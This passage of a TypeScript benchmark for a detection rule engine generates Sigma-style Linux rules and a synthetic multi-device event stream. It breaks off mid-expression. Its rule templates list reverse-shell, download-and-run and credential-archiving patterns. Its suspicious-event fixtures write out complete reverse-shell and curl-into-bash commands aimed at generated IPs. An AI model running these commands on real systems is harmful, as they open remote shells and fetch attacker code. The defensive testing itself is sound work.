// The detection rule engine (RuleEngine, docs/rules.md): events per second with the starter policy's
// rules plus 100 generated public-style Sigma rules, over a seeded mixed stream from many devices, in
// the agent's scope and in the hub's; and the heap that active group keys (open correlation windows)
// cost, measured in a child Node started with --expose-gc (this file, run directly). Rules and events are
// made from templates by a seeded generator, so runs compare; neither is shaped to suit the engine.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import {
  type CompiledRuleSet,
  eventTypes,
  type PolicySourceFile,
  parseRuleFiles,
  RuleEngine,
  type RuleEngineStats,
  type RuleEvent,
  type RuleScope,
  type Severity,
} from '@edgeward/core';
import { stringify } from 'yaml';
import { seededRandom } from './realistic-events.ts';

const ENGINE_OPTIONS = { allowedLatenessMs: 5000, maxGroupsPerRule: 100_000 } as const;
const BATCH_SIZE = 1000;
const DEVICES = 250;
/** Starts the generated timeline: a fixed day, so that runs on different dates see the same events. */
const TIMELINE_START = Date.UTC(2026, 10, 20, 0, 0, 0);
/** Mean gap between two events of the whole fleet, ms (500,000 events span about 1.4 h). */
const MEAN_GAP_MS = 10;

type Random = () => number;

const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;

/** `count` different elements of `list` (all of it when it is shorter), in list order. */
function subset<T>(random: Random, list: readonly T[], count: number): T[] {
  const chosen = new Set<number>();
  while (chosen.size < Math.min(count, list.length)) chosen.add(Math.floor(random() * list.length));
  return [...chosen].sort((a, b) => a - b).map((index) => list[index] as T);
}

const between = (random: Random, low: number, high: number) => low + Math.floor(random() * (high - low + 1));
const hex = (random: Random, length: number) => {
  let text = '';
  for (let index = 0; index < length; index++) text += Math.floor(random() * 16).toString(16);
  return text;
};
const uuid = (random: Random) =>
  `${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-${pick(random, ['8', '9', 'a', 'b'])}${hex(random, 3)}-${hex(random, 12)}`;

// --- generated rules -----------------------------------------------------------------------------

export const generatedKinds = ['process_creation', 'file_event', 'auth', 'keyword'] as const;
export type GeneratedKind = (typeof generatedKinds)[number];
/** How many rules of each kind are generated (100 in all). */
export const generatedCounts: Readonly<Record<GeneratedKind, number>> = {
  process_creation: 40,
  file_event: 25,
  auth: 20,
  keyword: 15,
};

interface ProcessFamily {
  readonly what: string;
  readonly images: readonly string[];
  readonly args: readonly string[];
  readonly tags: readonly string[];
}

/** Tools and arguments as SigmaHQ's rules/linux/process_creation looks for them. */
const processFamilies: readonly ProcessFamily[] = [
  {
    what: 'Curl download to a temporary directory or into a shell',
    images: ['/curl'],
    args: [
      ' -o /tmp/',
      ' --output /tmp/',
      ' -o /dev/shm/',
      ' | sh',
      ' | bash',
      ' -k https://',
      ' -s http://',
    ],
    tags: ['attack.command-and-control', 'attack.t1105'],
  },
  {
    what: 'Wget download to a temporary directory or into a shell',
    images: ['/wget'],
    args: [' -O /tmp/', ' -O /dev/shm/', ' -qO- ', ' | sh', '--no-check-certificate', ' -P /var/tmp/'],
    tags: ['attack.command-and-control', 'attack.t1105'],
  },
  {
    what: 'Python one-liner with a socket or a pty',
    images: ['/python', '/python2', '/python2.7', '/python3', '/python3.9', '/python3.11'],
    args: [
      'import socket',
      'pty.spawn',
      'os.dup2',
      'subprocess.call',
      '-m http.server',
      'SimpleHTTPServer',
      'b64decode',
    ],
    tags: ['attack.execution', 'attack.t1059.006'],
  },
  {
    what: 'Perl reverse shell',
    images: ['/perl'],
    args: ['use Socket', 'IO::Socket::INET', 'exec "/bin/sh', 'fork while fork', '-MIO -e'],
    tags: ['attack.execution', 'attack.t1059'],
  },
  {
    what: 'Netcat with a shell or listening',
    images: ['/nc', '/ncat', '/netcat', '/nc.openbsd', '/nc.traditional'],
    args: [' -e ', ' -c ', ' -lvp ', ' -l -p ', ' -nlvp ', '/bin/sh'],
    tags: ['attack.execution', 'attack.t1059'],
  },
  {
    what: 'Socat relay or shell',
    images: ['/socat'],
    args: ['exec:', 'tcp-connect:', 'pty,stderr', 'openssl-connect:', 'tcp-listen:'],
    tags: ['attack.execution', 'attack.t1059'],
  },
  {
    what: 'Chmod making a temporary file executable or setuid',
    images: ['/chmod'],
    args: [' +x /tmp/', ' 777 /tmp/', ' u+s ', ' 4755 ', ' +x /dev/shm/', ' g+s '],
    tags: ['attack.defense-evasion', 'attack.t1222.002'],
  },
  {
    what: 'Crontab removed or loaded from a temporary file',
    images: ['/crontab'],
    args: [' -r', ' /tmp/', ' /dev/shm/', ' -u root '],
    tags: ['attack.persistence', 'attack.t1053.003'],
  },
  {
    what: 'Security service stopped',
    images: ['/systemctl', '/service'],
    args: [
      'stop auditd',
      'disable auditd',
      'stop rsyslog',
      'stop apparmor',
      'disable apparmor',
      'stop firewalld',
      'disable ufw',
      'stop falcon-sensor',
    ],
    tags: ['attack.defense-evasion', 'attack.t1562.001'],
  },
  {
    what: 'Firewall rules flushed',
    images: ['/iptables', '/ip6tables', '/nft', '/iptables-legacy'],
    args: [' -F', ' --flush', ' -P INPUT ACCEPT', ' flush ruleset', ' -X'],
    tags: ['attack.defense-evasion', 'attack.t1562.004'],
  },
  {
    what: 'Base64 decoding on the command line',
    images: ['/base64', '/openssl'],
    args: [' -d', ' --decode', ' enc -d', ' -base64 -d'],
    tags: ['attack.defense-evasion', 'attack.t1140'],
  },
  {
    what: 'Raw disk or memory access with dd',
    images: ['/dd'],
    args: ['if=/dev/mem', 'if=/dev/sda', 'of=/dev/sda', 'of=/dev/mmcblk0', 'if=/dev/zero of=/dev/'],
    tags: ['attack.impact', 'attack.t1561'],
  },
  {
    what: 'Account given root or admin rights',
    images: ['/useradd', '/adduser', '/usermod'],
    args: [' -o -u 0', ' -u 0 ', ' -G sudo', ' -aG sudo', ' -aG wheel', ' -G root', '--non-unique'],
    tags: ['attack.persistence', 'attack.t1136.001'],
  },
  {
    what: 'Credentials packed into an archive',
    images: ['/tar', '/zip', '/7z', '/gzip'],
    args: ['/etc/shadow', '/etc/passwd', '/root/.ssh', '.ssh/id_rsa', '/etc/ssh/ssh_host_'],
    tags: ['attack.collection', 'attack.t1560.001'],
  },
  {
    what: 'Search for setuid files',
    images: ['/find'],
    args: ['-perm -4000', '-perm -u=s', '-perm -2000', ' -exec /bin/sh', '-writable'],
    tags: ['attack.discovery', 'attack.t1083'],
  },
  {
    what: 'Logs or shell history wiped',
    images: ['/shred', '/rm', '/truncate'],
    args: ['.bash_history', '/var/log/', 'wtmp', 'btmp', 'lastlog', 'auth.log', '/var/log/secure'],
    tags: ['attack.defense-evasion', 'attack.t1070.002'],
  },
  {
    what: 'Kernel module loaded from a temporary directory',
    images: ['/insmod', '/modprobe'],
    args: ['/tmp/', '/dev/shm/', '/var/tmp/', '.ko'],
    tags: ['attack.persistence', 'attack.t1547.006'],
  },
  {
    what: 'SSH tunnel',
    images: ['/ssh'],
    args: [' -R ', ' -D ', ' -L ', ' -o StrictHostKeyChecking=no', ' -N -f'],
    tags: ['attack.command-and-control', 'attack.t1572'],
  },
  {
    what: 'Shell redirected to a network socket',
    images: ['/bash', '/sh', '/dash', '/zsh', '/busybox'],
    args: ['/dev/tcp/', '/dev/udp/', ' -i >& ', 'HISTFILE=/dev/null', 'unset HISTFILE'],
    tags: ['attack.execution', 'attack.t1059.004'],
  },
  {
    what: 'Cryptocurrency miner',
    images: ['/xmrig', '/kdevtmpfsi', '/kinsing', '/minerd', '/cpuminer'],
    args: ['stratum+tcp://', '--donate-level', ' -o pool.', '--cpu-max-threads-hint', ' --coin '],
    tags: ['attack.impact', 'attack.t1496'],
  },
];

/** Exclusions public rules carry for known tooling. */
const processFilters: readonly string[] = [
  '/opt/ansible/',
  '/usr/share/unattended-upgrades/',
  '/var/lib/dpkg/info/',
  '/opt/edge-app/',
  '--config /etc/vendor/',
];

interface FileFamily {
  readonly what: string;
  readonly prefixes: readonly string[];
  readonly suffixes?: readonly string[];
  readonly tags: readonly string[];
}

/** Places SigmaHQ's rules/linux/file_event watches. */
const fileFamilies: readonly FileFamily[] = [
  {
    what: 'Cron file written',
    prefixes: [
      '/etc/cron.d/',
      '/etc/cron.daily/',
      '/etc/cron.hourly/',
      '/etc/cron.weekly/',
      '/etc/cron.monthly/',
      '/var/spool/cron/crontabs/',
      '/var/spool/cron/',
    ],
    tags: ['attack.persistence', 'attack.t1053.003'],
  },
  {
    what: 'Systemd unit written',
    prefixes: [
      '/etc/systemd/system/',
      '/usr/lib/systemd/system/',
      '/lib/systemd/system/',
      '/run/systemd/system/',
      '/etc/systemd/user/',
    ],
    suffixes: ['.service', '.timer', '.socket'],
    tags: ['attack.persistence', 'attack.t1543.002'],
  },
  {
    what: 'Shell profile changed',
    prefixes: [
      '/etc/profile.d/',
      '/etc/profile',
      '/etc/bash.bashrc',
      '/root/.bashrc',
      '/root/.profile',
      '/etc/zsh/',
    ],
    tags: ['attack.persistence', 'attack.t1546.004'],
  },
  {
    what: 'SSH keys or daemon configuration written',
    prefixes: ['/root/.ssh/', '/etc/ssh/sshd_config.d/', '/etc/ssh/authorized_keys', '/etc/dropbear/'],
    tags: ['attack.persistence', 'attack.t1098.004'],
  },
  {
    what: 'Dynamic linker configuration changed',
    prefixes: ['/etc/ld.so.preload', '/etc/ld.so.conf.d/', '/etc/ld.so.conf'],
    tags: ['attack.defense-evasion', 'attack.t1574.006'],
  },
  {
    what: 'PAM module or configuration written',
    prefixes: ['/etc/pam.d/', '/lib/security/', '/lib/x86_64-linux-gnu/security/', '/usr/lib/security/'],
    suffixes: ['.so', '-auth', 'common-password'],
    tags: ['attack.credential-access', 'attack.t1556.003'],
  },
  {
    what: 'Init script written',
    prefixes: ['/etc/init.d/', '/etc/rc.local', '/etc/rc.d/', '/etc/rcS.d/'],
    tags: ['attack.persistence', 'attack.t1037.004'],
  },
  {
    what: 'Executable dropped in a temporary directory',
    prefixes: ['/tmp/', '/dev/shm/', '/var/tmp/', '/run/user/'],
    suffixes: ['.sh', '.elf', '.bin', '.py', '.so'],
    tags: ['attack.execution', 'attack.t1105'],
  },
  {
    what: 'Udev rule written',
    prefixes: ['/etc/udev/rules.d/', '/lib/udev/rules.d/', '/usr/lib/udev/rules.d/'],
    tags: ['attack.persistence', 'attack.t1546'],
  },
  {
    what: 'Package manager hook written',
    prefixes: ['/etc/apt/apt.conf.d/', '/etc/yum/pluginconf.d/', '/etc/dpkg/dpkg.cfg.d/', '/etc/opkg/'],
    tags: ['attack.persistence', 'attack.t1546.016'],
  },
  {
    what: 'Message of the day script written',
    prefixes: ['/etc/update-motd.d/', '/etc/motd'],
    tags: ['attack.persistence', 'attack.t1037'],
  },
  {
    what: 'Kernel module configuration written',
    prefixes: ['/etc/modules-load.d/', '/etc/modprobe.d/', '/lib/modules/', '/etc/modules'],
    suffixes: ['.ko', '.conf'],
    tags: ['attack.persistence', 'attack.t1547.006'],
  },
  {
    what: 'Sudo or doas configuration written',
    prefixes: ['/etc/sudoers', '/etc/sudoers.d/', '/etc/doas.conf', '/usr/local/etc/doas.conf'],
    tags: ['attack.privilege-escalation', 'attack.t1548.003'],
  },
  {
    what: 'Name resolution or network configuration changed',
    prefixes: [
      '/etc/hosts',
      '/etc/resolv.conf',
      '/etc/network/interfaces',
      '/etc/netplan/',
      '/etc/NetworkManager/system-connections/',
    ],
    tags: ['attack.command-and-control', 'attack.t1565'],
  },
  {
    what: 'Boot or firmware file written',
    prefixes: ['/boot/', '/etc/default/grub', '/etc/initramfs-tools/', '/lib/firmware/'],
    tags: ['attack.persistence', 'attack.t1542'],
  },
];

const serviceAccounts = [
  'postgres',
  'mysql',
  'oracle',
  'git',
  'jenkins',
  'nagios',
  'zabbix',
  'backup',
  'www-data',
  'ftp',
  'tomcat',
  'elastic',
  'redis',
  'mosquitto',
  'grafana',
];
const vendorAccounts = [
  'ubnt',
  'pi',
  'admin',
  'support',
  'cisco',
  'mikrotik',
  'vyos',
  'root',
  'user',
  'guest',
  'default',
  'service',
  'operator',
  'supervisor',
  'manager',
];
const managementNetworks = [
  '10.0.0.0/8',
  '172.16.0.0/12',
  '192.168.0.0/16',
  'fd00::/8',
  '100.64.0.0/10',
  '10.20.0.0/16',
  '192.168.100.0/24',
];

/** Keyword searches over the raw line, as SigmaHQ's rules/linux/builtin write them. */
const sshdKeywords = [
  'Corrupted MAC on input',
  'Bad packet length',
  'unexpected internal error',
  'Did not receive identification string from',
  'banner line contains invalid characters',
  'Unable to negotiate with',
  'error in libcrypto',
  'invalid certificate signing key',
  'incorrect signature',
  'bad client public DH value',
  'Local: crc32 compensation attack',
  'fatal: buffer_get_string: bad string',
  'ssh_dispatch_run_fatal',
  'Protocol major versions differ',
  'maximum authentication attempts exceeded',
  'Too many authentication failures',
  'POSSIBLE BREAK-IN ATTEMPT',
  'reverse mapping checking getaddrinfo',
];
const shellKeywords = [
  '/dev/tcp/',
  'wget * - http* | sh',
  'curl * | bash',
  '*chmod +x /tmp/*',
  '* | base64 -d *',
  '${jndi:',
  'import pty; pty.spawn*',
  'nc -e /bin/sh',
  'xmrig',
  'stratum+tcp',
  'kdevtmpfsi',
  '/bin/busybox MIRAI',
  '*cd /tmp || cd /var/run*',
  'rm -rf /var/log',
  'history -c',
  'iptables -F',
  'setenforce 0',
  'LD_PRELOAD=',
  'socat exec:*',
  '*>>/etc/rc.local',
  'echo binary >>',
];

interface RuleSource {
  readonly kind: GeneratedKind;
  readonly document: Record<string, unknown>;
}

/**
 * One hundred distinct public-style Sigma rules (`generatedCounts` of each kind) from the templates
 * above, with values drawn by a seeded generator: the same seed gives the same rules.
 */
function generatedRuleSources(seed: number): RuleSource[] {
  const random = seededRandom(seed);
  const sources: RuleSource[] = [];
  const seen = new Set<string>();
  const levels = ['low', 'medium', 'medium', 'high', 'high', 'critical'] as const;
  const add = (kind: GeneratedKind, make: (index: number) => Record<string, unknown>) => {
    let made = 0;
    while (made < generatedCounts[kind]) {
      const body = make(made);
      const identity = JSON.stringify([body.logsource, body.detection]);
      if (seen.has(identity)) continue;
      seen.add(identity);
      made += 1;
      sources.push({
        kind,
        document: {
          title: `${body.title as string} (variant ${made})`,
          id: uuid(random),
          status: pick(random, ['test', 'experimental', 'stable']),
          description: body.description,
          author: 'Edgeward bench (generated)',
          date: '2026-11-20',
          tags: body.tags,
          logsource: body.logsource,
          detection: body.detection,
          falsepositives: ['Administrative activity'],
          level: pick(random, levels),
        },
      });
    }
  };

  add('process_creation', (index) => {
    const family = processFamilies[index % processFamilies.length] as ProcessFamily;
    const detection: Record<string, unknown> = {
      selection_img: {
        'Image|endswith': subset(random, family.images, between(random, 1, family.images.length)),
      },
    };
    const args = subset(random, family.args, between(random, 2, Math.min(5, family.args.length)));
    if (random() < 0.2 && args.length >= 2)
      detection.selection_cli = { 'CommandLine|contains|all': args.slice(0, 2) };
    else detection.selection_cli = { 'CommandLine|contains': args };
    let condition = 'all of selection_*';
    if (random() < 0.35) {
      detection.filter_known = {
        'CommandLine|contains': subset(random, processFilters, between(random, 1, 3)),
      };
      condition = 'all of selection_* and not 1 of filter_*';
    }
    detection.condition = condition;
    return {
      title: family.what,
      description: `Detects ${family.what.toLowerCase()}.`,
      tags: family.tags,
      logsource: { product: 'linux', category: 'process_creation' },
      detection,
    };
  });

  add('file_event', (index) => {
    const family = fileFamilies[index % fileFamilies.length] as FileFamily;
    const prefixes = subset(random, family.prefixes, between(random, 2, family.prefixes.length));
    const detection: Record<string, unknown> = { selection: { 'TargetFilename|startswith': prefixes } };
    if (family.suffixes !== undefined && random() < 0.5) {
      detection.selection = {
        'TargetFilename|startswith': prefixes,
        'TargetFilename|endswith': subset(
          random,
          family.suffixes,
          between(random, 1, family.suffixes.length),
        ),
      };
    }
    detection.condition = 'selection';
    return {
      title: family.what,
      description: `Detects ${family.what.toLowerCase()}, which can indicate persistence or tampering.`,
      tags: family.tags,
      logsource: { product: 'linux', category: 'file_event' },
      detection,
    };
  });

  add('auth', (index) => {
    const service = index % 2 === 0 ? 'sshd' : 'auth';
    const logsource = { product: 'linux', service };
    const networks = () => subset(random, managementNetworks, between(random, 1, 4));
    const listed = () =>
      Array.from(
        { length: between(random, 2, 6) },
        () => `${between(random, 5, 223)}.${between(random, 0, 255)}.${between(random, 0, 255)}.0/24`,
      );
    switch (index % 4) {
      case 0:
        return {
          title: 'Login attempt for a service account from outside the management networks',
          description: 'Service accounts only log in from the management networks.',
          tags: ['attack.initial-access', 'attack.t1078.003'],
          logsource,
          detection: {
            selection: { User: subset(random, serviceAccounts, between(random, 2, 6)) },
            filter_management: { 'SourceIp|cidr': networks() },
            condition: 'selection and not filter_management',
          },
        };
      case 1:
        return {
          title: 'Successful login from a listed network',
          description: 'A login succeeded from a network on a threat-intelligence list.',
          tags: ['attack.initial-access', 'attack.t1078'],
          logsource,
          detection: {
            selection: { type: 'auth.login_succeeded', 'SourceIp|cidr': listed() },
            condition: 'selection',
          },
        };
      case 2:
        return {
          title: 'Failed login for a vendor default account',
          description: 'Someone tries the default account of an appliance vendor.',
          tags: ['attack.credential-access', 'attack.t1078.001'],
          logsource,
          detection: {
            selection: {
              type: 'auth.login_failed',
              User: subset(random, vendorAccounts, between(random, 2, 5)),
            },
            filter_local: { 'SourceIp|cidr': networks() },
            condition: 'selection and not filter_local',
          },
        };
      default:
        return {
          title: 'Root login from outside the management networks',
          description: 'root logged in from an address outside the management networks.',
          tags: ['attack.privilege-escalation', 'attack.t1078.003'],
          logsource,
          detection: {
            selection: { type: 'auth.login_succeeded', User: 'root' },
            filter_management: { 'SourceIp|cidr': networks() },
            condition: 'selection and not filter_management',
          },
        };
    }
  });

  add('keyword', (index) => {
    const sshd = index % 2 === 0;
    const keywords = sshd
      ? subset(random, sshdKeywords, between(random, 3, 8))
      : subset(random, shellKeywords, between(random, 3, 8));
    return {
      title: sshd ? 'Suspicious OpenSSH daemon message' : 'Suspicious shell command in a log line',
      description: sshd
        ? 'An sshd message that exploitation attempts cause.'
        : 'A command line seen in exploitation scripts.',
      tags: sshd ? ['attack.initial-access', 'attack.t1190'] : ['attack.execution', 'attack.t1059.004'],
      logsource: sshd ? { product: 'linux', service: 'sshd' } : { product: 'linux' },
      detection: { keywords, condition: 'keywords' },
    };
  });
  return sources;
}

/** The starter policy's rule files, as a policy folder holds them. */
function builtinRuleFiles(): PolicySourceFile[] {
  const dir = new URL('../policies/starter/rules/', import.meta.url);
  return readdirSync(dir)
    .filter((name) => /\.ya?ml$/.test(name))
    .sort()
    .map((name) => ({ path: `rules/${name}`, text: readFileSync(new URL(name, dir), 'utf8') }));
}

export interface BenchRuleSets {
  readonly builtinRules: number;
  /** Built-in and generated, as written (generated rules run on the agent by default). */
  readonly all: CompiledRuleSet;
  /** The same without the keyword rules. */
  readonly fieldOnly: CompiledRuleSet;
  /** Copies of the generated rules with `edgeward: {scope: hub}`, as docs/rules.md suggests for agentless syslog. */
  readonly allOnHub: CompiledRuleSet;
  readonly fieldOnlyOnHub: CompiledRuleSet;
}

function compile(files: PolicySourceFile[]): CompiledRuleSet {
  const result = parseRuleFiles(files);
  if (!result.ok) {
    const problems = result.problems.map(
      (problem) => `${problem.file}:${problem.line ?? '-'} ${problem.message}`,
    );
    throw new Error(`the benchmark's rules do not compile:\n${problems.join('\n')}`);
  }
  return result.rules;
}

export function benchRuleSets(seed = 7): BenchRuleSets {
  const builtin = builtinRuleFiles();
  const generated = generatedRuleSources(seed);
  const files = (kinds: readonly GeneratedKind[], scope?: RuleScope): PolicySourceFile[] =>
    generated
      .filter((rule) => kinds.includes(rule.kind))
      .map((rule, index) => ({
        path: `rules/generated/${rule.kind}-${String(index).padStart(3, '0')}.yml`,
        text: stringify(scope === undefined ? rule.document : { ...rule.document, edgeward: { scope } }),
      }));
  const fieldKinds = generatedKinds.filter((kind) => kind !== 'keyword');
  const builtinSet = compile(builtin);
  return {
    builtinRules: builtinSet.rules.length,
    all: compile([...builtin, ...files(generatedKinds)]),
    fieldOnly: compile([...builtin, ...files(fieldKinds)]),
    allOnHub: compile([...builtin, ...files(generatedKinds, 'hub')]),
    fieldOnlyOnHub: compile([...builtin, ...files(fieldKinds, 'hub')]),
  };
}

// --- generated events ----------------------------------------------------------------------------

const commonUsers = [
  'root',
  'admin',
  'test',
  'user',
  'ubuntu',
  'pi',
  'oracle',
  'postgres',
  'git',
  'ftpuser',
  'guest',
  'support',
  'ubnt',
  'debian',
  'centos',
  'deploy',
  'jenkins',
  'hadoop',
  'nagios',
  'mysql',
  'www',
  'www-data',
  'dev',
  'ansible',
  'minecraft',
  'steam',
  'odoo',
  'teamspeak',
  'tomcat',
  'elastic',
  'es',
  'kafka',
  'zabbix',
  'sonar',
  'vagrant',
  'docker',
  'server',
  'operator',
  'student',
  'demo',
];
const givenNames = [
  'anna',
  'ben',
  'carla',
  'dmitri',
  'elif',
  'farid',
  'greta',
  'hugo',
  'ines',
  'jonas',
  'kofi',
];
const familyNames = [
  'silva',
  'meyer',
  'novak',
  'costa',
  'berg',
  'yilmaz',
  'dubois',
  'rossi',
  'kowalski',
  'ng',
];
const sites = ['lisbon', 'porto', 'berlin', 'lyon', 'gdansk', 'turin', 'malmo', 'ghent', 'brno', 'cork'];

interface Device {
  readonly id: string;
  readonly hostname: string;
  readonly site: number;
  readonly admins: readonly string[];
  seq: number;
}

interface Campaign {
  readonly address: string;
  readonly targets: readonly Device[];
  readonly users: (random: Random) => string;
  left: number;
}

function publicIpv4(random: Random): string {
  let first = between(random, 1, 223);
  while (first === 10 || first === 127 || first === 172 || first === 192 || first === 100) first += 1;
  return `${first}.${between(random, 0, 255)}.${between(random, 0, 255)}.${between(random, 1, 254)}`;
}

function attackerAddress(random: Random): string {
  const roll = random();
  if (roll < 0.8) return publicIpv4(random);
  // sshd on a dual-stack socket logs IPv4 peers in their mapped form.
  if (roll < 0.9) return `::ffff:${publicIpv4(random)}`;
  return `2a0${between(random, 1, 9)}:${hex(random, 4)}:${hex(random, 4)}::${hex(random, 3)}`;
}

/** A user list as seen in brute-force traffic: one account hammered, a dictionary, or sprayed names. */
function campaignUsers(random: Random): (random: Random) => string {
  const roll = random();
  if (roll < 0.4) {
    const user = random() < 0.7 ? 'root' : pick(random, commonUsers);
    return () => user;
  }
  if (roll < 0.8) return (r) => pick(r, commonUsers);
  return (r) =>
    r() < 0.5
      ? `${pick(r, givenNames)}.${pick(r, familyNames)}`
      : `${pick(r, commonUsers)}${between(r, 1, 2026)}`;
}

const benignCommands: readonly ((random: Random) => readonly [string, string])[] = [
  () => ['/usr/sbin/sshd', '/usr/sbin/sshd -D -R'],
  (r) => [
    '/usr/bin/python3',
    `/usr/bin/python3 /opt/edge-app/bin/collector.py --config /opt/edge-app/conf/collector-${between(r, 1, 8)}.yaml`,
  ],
  () => ['/usr/sbin/cron', '/usr/sbin/cron -f'],
  (r) => ['/usr/bin/rsync', `rsync --server -vlogDtpre.iLsfxC . /var/backups/edge-${between(r, 1, 30)}/`],
  () => ['/usr/lib/openssh/sftp-server', '/usr/lib/openssh/sftp-server'],
  (r) => [
    '/usr/bin/curl',
    `curl -fsS https://updates.example.net/edge/manifest-${between(r, 100, 999)}.json -o /var/lib/edge-app/manifest.json`,
  ],
  () => ['/usr/bin/apt-get', 'apt-get -qq update'],
  (r) => ['/usr/bin/dpkg', `dpkg --status edge-app-${between(r, 1, 9)}`],
  () => ['/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf'],
  (r) => ['/usr/bin/systemctl', `systemctl ${pick(r, ['restart', 'status', 'reload'])} edge-app.service`],
  () => ['/bin/sh', '/bin/sh -c /usr/local/bin/healthcheck.sh'],
  (r) => ['/usr/bin/find', `find /var/lib/edge-app/cache -mtime +${between(r, 2, 14)} -delete`],
  (r) => ['/usr/bin/tar', `tar -czf /var/backups/etc-${between(r, 1, 28)}.tar.gz /etc/edge-app`],
  (r) => ['/usr/bin/ssh', `ssh -o BatchMode=yes backup@10.20.${between(r, 0, 9)}.5 true`],
  (r) => ['/usr/sbin/iptables', `iptables -A INPUT -p tcp --dport ${pick(r, [22, 443, 1883])} -j ACCEPT`],
  (r) => [
    '/usr/bin/wget',
    `wget -q -O /var/lib/edge-app/fw-${between(r, 1, 99)}.bin https://updates.example.net/fw.bin`,
  ],
  () => ['/usr/local/bin/edge-agentd', '/usr/local/bin/edge-agentd --foreground'],
  (r) => ['/usr/bin/gzip', `gzip -9 /var/log/edge-app/app.log.${between(r, 1, 7)}`],
  () => ['/usr/sbin/nginx', 'nginx: worker process'],
  () => ['/usr/bin/mosquitto', '/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf'],
];

const suspiciousCommands: readonly ((random: Random) => readonly [string, string])[] = [
  (r) => [
    '/usr/bin/wget',
    `wget -q -O /tmp/.x${between(r, 1, 9)} http://${publicIpv4(r)}/x86 ; chmod +x /tmp/.x`,
  ],
  (r) => ['/usr/bin/nc', `nc -e /bin/sh ${publicIpv4(r)} 4444`],
  (r) => ['/bin/bash', `bash -c "bash -i >& /dev/tcp/${publicIpv4(r)}/4444 0>&1"`],
  () => [
    '/usr/bin/python3',
    'python3 -c "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)"',
  ],
  (r) => ['/usr/bin/curl', `curl -s http://${publicIpv4(r)}/i.sh | bash`],
  () => ['/usr/bin/chmod', 'chmod 777 /tmp/kdevtmpfsi'],
  () => ['/tmp/xmrig', '/tmp/xmrig -o stratum+tcp://pool.example:3333 --donate-level 1'],
  () => ['/usr/bin/crontab', 'crontab -r'],
  () => ['/usr/sbin/iptables', 'iptables -F'],
  () => ['/usr/bin/systemctl', 'systemctl stop auditd'],
  () => ['/usr/bin/base64', 'base64 -d /tmp/p.b64'],
  () => ['/usr/sbin/useradd', 'useradd -o -u 0 support2'],
  () => ['/usr/bin/find', 'find / -perm -4000 -type f'],
];

function filePath(random: Random, device: Device): string {
  const roll = random();
  if (roll < 0.45)
    return `/opt/edge-app/conf/${pick(random, ['collector', 'modbus', 'mqtt', 'alarms', 'sites'])}-${between(random, 1, 40)}.yaml`;
  if (roll < 0.7) return `/var/lib/edge-app/state/${hex(random, 6)}.json`;
  if (roll < 0.88)
    return `/etc/${pick(random, ['hosts', 'resolv.conf', 'ntp.conf', 'chrony/chrony.conf', 'default/edge-app', 'logrotate.d/edge-app', 'mosquitto/mosquitto.conf', 'nginx/sites-enabled/default', 'fstab', 'hostname'])}`;
  if (roll < 0.93)
    return `/usr/local/bin/${pick(random, ['edge-agentd', 'healthcheck.sh', 'modbus-poll', 'fw-update', 'vpn-up.sh'])}`;
  if (roll < 0.96)
    return pick(random, [
      '/etc/passwd',
      '/etc/shadow',
      '/etc/group',
      '/etc/ssh/sshd_config',
      '/etc/sudoers.d/edge-app',
      `/home/${pick(random, device.admins)}/.ssh/authorized_keys`,
    ]);
  if (roll < 0.99)
    return pick(random, [
      `/etc/cron.d/edge-app-${between(random, 1, 5)}`,
      `/etc/systemd/system/edge-app-${between(random, 1, 5)}.service`,
      '/etc/profile.d/edge-app.sh',
      '/etc/apt/apt.conf.d/50unattended-upgrades',
    ]);
  return `/tmp/${pick(random, ['update', 'tmp', 'x', '.cache', 'core'])}${between(random, 1, 999)}${pick(random, ['', '.sh', '.bin', '.log'])}`;
}

function fileState(random: Random): Record<string, unknown> {
  return {
    sha256: hex(random, 64),
    size: between(random, 40, 64_000),
    uid: 0,
    gid: 0,
    mode: pick(random, ['0644', '0600', '0755', '0640']),
  };
}

function syslogTime(time: number): string {
  return `${new Date(time).toISOString().slice(0, -1)}000+00:00`;
}

export interface BenchEvents {
  readonly batches: readonly (readonly RuleEvent[])[];
  readonly events: number;
  readonly devices: number;
  /** Events per type. */
  readonly types: Readonly<Record<string, number>>;
  readonly spanMs: number;
}

/**
 * A fleet's mixed stream, seeded: about 60 % authentication (failed logins from interleaved brute-force
 * campaigns, some against several devices, and admins' logins from management networks), 20 % file
 * integrity, 10 % executables started with their command lines (3 % of those suspicious), 10 % new
 * listeners and agent events. Event time increases; each device numbers its events from 1.
 */
export function generateBenchEvents(count: number, seed = 11): BenchEvents {
  const random = seededRandom(seed);
  const devices: Device[] = Array.from({ length: DEVICES }, (_, index) => {
    const site = index % sites.length;
    return {
      id: `dev-${hex(random, 12)}`,
      hostname: `gw-${sites[site]}-${String(index).padStart(3, '0')}`,
      site,
      admins: subset(
        random,
        [...givenNames.map((name) => `${name}.${pick(random, familyNames)}`), 'deploy', 'ansible', 'root'],
        between(random, 1, 3),
      ),
      seq: 0,
    };
  });
  const newCampaign = (): Campaign => {
    const spread = random() < 0.3 ? between(random, 2, 20) : 1;
    return {
      address: attackerAddress(random),
      targets: subset(random, devices, spread),
      users: campaignUsers(random),
      left: 1 + Math.min(500, Math.floor(-Math.log(1 - random()) * 40)),
    };
  };
  const campaigns = Array.from({ length: 64 }, newCampaign);
  const types: Record<string, number> = {};
  const all: RuleEvent[] = [];
  let time = TIMELINE_START;
  const make = (device: Device, type: keyof typeof eventTypes, data: Record<string, unknown>): RuleEvent => {
    device.seq += 1;
    types[type] = (types[type] ?? 0) + 1;
    const severity: Severity = eventTypes[type];
    return {
      seq: device.seq,
      id: `${device.id}-${device.seq}`,
      type,
      severity,
      time,
      data,
      deviceId: device.id,
    };
  };
  const authLine = (device: Device, pid: number, message: string) =>
    `${syslogTime(time)} ${device.hostname} sshd[${pid}]: ${message}`;

  for (let index = 0; index < count; index++) {
    time += Math.round(-Math.log(1 - random()) * MEAN_GAP_MS);
    const roll = random();
    let event: RuleEvent;
    if (roll < 0.6 && random() < 0.85) {
      const slot = Math.floor(random() * campaigns.length);
      const campaign = campaigns[slot] as Campaign;
      const device = pick(random, campaign.targets);
      const user = campaign.users(random);
      const port = between(random, 1024, 65_535);
      const pid = between(random, 1000, 60_000);
      const style = random();
      const [method, reason, message] =
        style < 0.6
